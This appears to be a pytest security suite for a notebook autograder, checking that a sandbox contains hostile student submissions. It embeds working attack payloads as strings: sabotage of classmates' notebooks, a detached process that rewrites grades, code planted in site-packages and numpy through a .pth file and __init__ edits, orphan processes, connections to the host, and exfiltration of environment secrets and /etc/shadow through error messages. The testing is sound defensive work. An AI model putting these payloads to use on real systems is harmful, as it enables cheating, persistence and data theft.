"""Attacks on the instructor's machine and on classmates (issue 8 §3), on the fixture ex98.

One grader run holds an honest full solution, an honest blank, a victim graded last, and
submissions that: overwrite classmates' notebooks and the source notebook; leave a
detached process that rewrites the grades file after the grader exits; plant code in the
bplab source, in site-packages (a .pth) and in numpy; leave orphan processes; connect to
a port the host listens on; and carry environment variables, the solutions, $HOME, a
classmate's notebook or /etc/shadow out through feedback. A second, later run of an
honest pair shows that nothing planted runs there.
"""

from __future__ import annotations

import socket
import threading

import kit
import pytest

pytestmark = pytest.mark.slow

FULL, BLANK = (3, 2, 1), (0, 0, 0)
PARTS = ("ex98.linear_backward", "ex98.relu_backward", "ex98.answer")

SABOTEUR = """
import json
for _path in [*SUBMISSIONS, SOURCE_NB]:  # classmates' notebooks and the instructor's source
    if os.path.basename(os.path.dirname(_path)) != "saboteur":
        try:
            with open(_path, "w") as _f:
                _f.write("{}" if _path == SOURCE_NB else json.dumps(BLANK_NB))
        except OSError:
            pass
"""

LATE_REWRITE = """
import json
def _later():  # waits for the grades file, then gives this student full marks
    for _ in range(1200):
        if os.path.exists(GRADES):
            time.sleep(3)  # the grader has exited by then
            rows = [{"student": "late_rewrite", "path": "", "exercise": "ex98", "total": 6,
                     "max_total": 6, "seconds": 0, "note": "", "parts": []}]
            with open(GRADES, "w") as f:
                json.dump(rows, f)
            return
        time.sleep(0.1)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _mark_me()
        try:
            _later()
        finally:
            os._exit(0)
    os._exit(0)
"""

ORPHANS = """
import subprocess
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", TOKEN],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", TOKEN])
    os._exit(0)
"""

PLANTED = """
try:
    open({markers!r} + "/planted-{where}", "a").write("ran\\n")
    import threading, time as _t, __main__
    def _spoil():  # a later learner's linear_backward turns wrong
        _t.sleep(0.5)
        if hasattr(__main__, "linear_backward"):
            __main__.linear_backward = lambda X, W, dout: (0 * X, 0 * W, 0 * W[0])
    threading.Thread(target=_spoil, daemon=True).start()
except Exception:
    pass
"""

PLANTER = """
import site, ctypes
def _plant(path, code):
    try:
        with open(path, "a") as f:
            f.write("\\n" + code)
    except OSError:  # read-only: try to remount it writable, then again
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mount(None, os.path.dirname(path).encode(), None, 32 | 4096, None)
        try:
            with open(path, "a") as f:
                f.write("\\n" + code)
        except OSError:
            pass
import bplab
for _init in {os.path.join(os.path.dirname(bplab.__file__), "__init__.py"),
              os.path.join(REPO, "bplab", "__init__.py")}:
    _plant(_init, PLANT.format(where="bplab", markers=MARKERS))
for _site in {*site.getsitepackages(), SITE}:
    _plant(os.path.join(_site, f"bplab_attack_{TOKEN}.pth"),
           f"import os; os.path.isdir({MARKERS!r}) and open({MARKERS!r} + '/planted-pth', 'a').write('ran')")
    _plant(os.path.join(_site, "numpy", "__init__.py"), PLANT.format(where="numpy", markers=MARKERS))
"""

NETWORK = """
import socket
for _host in HOST_ADDRESSES:
    try:
        with socket.create_connection((_host, PORT), timeout=1) as _s:
            _s.sendall(TOKEN.encode())
    except OSError:
        pass
"""

EXFIL_ENV = {
    PARTS[0]: "def linear_backward(X, W, dout):\n    raise RuntimeError(repr(dict(os.environ))[-450:])",
    PARTS[1]: "def relu_backward(x, dout):\n"
              "    raise RuntimeError(' '.join(k for k in os.environ if 'SECRET' in k))",
    PARTS[2]: "answer = ' '.join(v for k, v in os.environ.items() if 'SECRET' in k)",
}

READ = """
def _read(path, find="", size=400):
    try:
        with open(path, errors="replace") as f:
            text = f.read()
        return text[max(text.find(find), 0):][:size]
    except OSError as err:
        return f"{path}: {err.strerror}"
"""

EXFIL_FILES = {
    PARTS[0]: ("def linear_backward(X, W, dout):\n    raise RuntimeError("
               "_read(SOURCE_NB, '### BEGIN ' + 'SOLUTION', 200) + _read(SPEC, '', 200))"),
    PARTS[1]: ("def relu_backward(x, dout):\n    raise RuntimeError(_read(CANARY) + "
               "' '.join(_read(p) for p in glob.glob(os.path.expanduser('~/tmp/*canary*')))"
               " + _read('/etc/shadow', '', 100))"),
    PARTS[2]: "answer = _read(VICTIM, 'honest-marker', 40)",
}


EXPLORER = """
_FOUND = []
def _explore():  # any copy of a solution anywhere the kernel can see (not a submission)
    needle, found, end = b"### BEGIN " + b"SOLUTION", [], time.time() + 2
    skip = {"proc", "sys", "dev", "usr", "site-packages", "dist-info", "old_root"}
    for root in (os.path.expanduser("~"), "/work", "/srv", "/opt", "/var", "/mnt", "/home",
                 "/tmp", "/"):
        for folder, dirs, names in os.walk(root):
            dirs[:] = [d for d in dirs if d not in skip and not d.endswith("dist-info")]
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if name.endswith((".ipynb", ".py")) and os.path.getsize(path) < 2**20:
                        with open(path, "rb") as f:
                            text = f.read()
                        if needle in text and TOKEN.encode() not in text and path not in found:
                            found.append(path)
                except OSError:
                    pass
            if time.time() > end:
                break
    return f"found {len(found)}: {found[:3]}"

def linear_backward(X, W, dout):
    _FOUND[:] = _FOUND or [_explore()]
    raise RuntimeError(_FOUND[0])
"""


def _exfil(parts: dict, top: str = ""):
    nb = kit.insert_top(kit.blank("ex98"), top)
    for pid, source in parts.items():
        kit.set_part(nb, pid, source)
    return nb


def _inflated(host):
    """Metadata claiming 100 points per cell, check cells that say so, another kernel."""
    nb = kit.solution("ex98")
    for cell in nb.cells:
        if "bplab" in cell.metadata:
            cell.metadata["bplab"]["points"] = 100
            if cell.metadata["bplab"].get("role") == "check":
                cell.source = "print('100 / 100 points')"
    nb.metadata["kernelspec"] = {"name": "bash", "language": "bash", "display_name": "Bash"}
    return nb


def _honest(host):
    nb = kit.solution("ex98")
    nb.cells[1].source += f"\n# honest-marker-{host.token}"
    return nb


ATTACKS = kit.selected({  # name: (builder(host), points each part must get)
    "saboteur": (lambda h: kit.insert_top(kit.solution("ex98"), SABOTEUR), FULL),
    "honest_full": (_honest, FULL),
    "honest_blank": (lambda h: kit.blank("ex98"), BLANK),
    "late_rewrite": (lambda h: kit.insert_top(kit.blank("ex98"), LATE_REWRITE), BLANK),
    "planter": (lambda h: kit.insert_top(kit.blank("ex98"), PLANTER), BLANK),
    "orphans": (lambda h: kit.insert_top(kit.solution("ex98"), ORPHANS), FULL),
    "network": (lambda h: kit.insert_top(kit.solution("ex98"), NETWORK), FULL),
    "exfil_env": (lambda h: _exfil(EXFIL_ENV), BLANK),
    "exfil_files": (lambda h: _exfil(EXFIL_FILES, READ), BLANK),
    "inflated_points": (_inflated, FULL),
    "explorer": (lambda h: kit.set_part(kit.solution("ex98"), PARTS[0], EXPLORER), (0, 2, 1)),
    "victim": (_honest, FULL),  # graded last: after the saboteur has run
})


class Listener:
    """A TCP server on the host that records what connects to it."""

    def __init__(self):
        self.sock = socket.create_server(("0.0.0.0", 0))
        self.port, self.received = self.sock.getsockname()[1], []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")


def _addresses() -> list[str]:
    """127.0.0.1 and this host's own addresses (what a kernel would try)."""
    found = {"127.0.0.1"}
    for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET):
        found.add(info[4][0])
    return sorted(found)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """(first run, later run, host changes, grades bytes right after the first run and
    after the late rewrite would have happened, what the listener received, host)."""
    folder, listener = tmp_path_factory.mktemp("host"), Listener()
    host = kit.Host([])
    paths = [folder / name / kit.source_path("ex98").name for name in ATTACKS]
    grades = folder / "grades.json"
    top = kit.prelude(
        host, SUBMISSIONS=[str(p) for p in paths], SOURCE_NB=str(kit.source_path("ex98")),
        SPEC=str(kit.FIXTURES / "specs" / "ex98.py"), GRADES=str(grades),
        CANARY=str(host.canary), SITE=str(kit.SITE_PACKAGES), PORT=listener.port,
        HOST_ADDRESSES=_addresses(), VICTIM=str(paths[-1]), PLANT=PLANTED,
        BLANK_NB=kit.blank("ex98"))
    for name, (build, _) in ATTACKS.items():
        kit.write(folder, name, kit.insert_top(build(host), top), "ex98")
    later_folder = folder / "later"
    later = [kit.write(later_folder, n, b(host), "ex98")
             for n, (b, _) in ATTACKS.items() if n.startswith("honest")]
    host.watched = [*paths, kit.source_path("ex98").parent, kit.FIXTURES / "specs"]
    copies = [kit.Path.home() / f"bplab-attack-{host.token}-copy.ipynb",  # an instructor's
              kit.Path(f"/var/tmp/bplab-attack-{host.token}-copy.ipynb")]  # other copies
    for copy in copies:
        copy.write_bytes(kit.source_path("ex98").read_bytes())
    with host:
        run = kit.grade(paths, "ex98", grades, env=host.env)
        right_after = grades.read_bytes() if grades.is_file() else b""
        later_run = kit.grade(later, "ex98", later_folder / "grades.json")  # >= 3 s: the
        after_wait = grades.read_bytes() if grades.is_file() else b""  # late rewrite is done
        yield run, later_run, host.changes(), (right_after, after_wait), listener.received, host
    listener.sock.close()
    for copy in copies:
        copy.unlink()


def test_run_completes_with_every_row(attacked):
    run = attacked[0]
    assert run.returncode == 0 and not run.hung, run.stderr[-2000:]
    assert set(run.rows) == set(ATTACKS), sorted(run.rows)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_scores(attacked, name):
    run = attacked[0]
    assert run.scored(name, ATTACKS[name][1]), run.feedback(name)


def test_points_come_from_the_spec(attacked):
    assert {row["max_total"] for row in attacked[0].rows.values()} == {6}


def test_nothing_outside_the_sandbox_changed(attacked):
    """Submissions, the source, the spec, bplab's source, site-packages, numpy, the canary,
    /tmp, and no process left behind."""
    assert attacked[2] == []


def test_grades_file_is_not_rewritten_after_the_grader_exits(attacked):
    right_after, after_wait = attacked[3]
    assert right_after and after_wait == right_after


def test_a_later_grader_runs_nothing_planted(attacked):
    later = attacked[1]
    assert later.returncode == 0, later.stderr[-2000:]
    assert later.points("honest_full") == FULL and later.points("honest_blank") == BLANK
    assert not list(attacked[5].markers.iterdir())


def test_no_copy_of_a_solution_is_visible(attacked):
    """Nowhere the kernel can look (the repository, $HOME, /var/tmp...) holds a solution."""
    kit.need(ATTACKS, "explorer")
    assert "found 0:" in attacked[0].feedback("explorer"), attacked[0].feedback("explorer")


def test_no_connection_reaches_the_host(attacked):
    assert attacked[4] == []


def test_no_secret_leaves_through_feedback(attacked):
    run, host = attacked[0], attacked[5]
    assert host.leaks(run.everything) == []
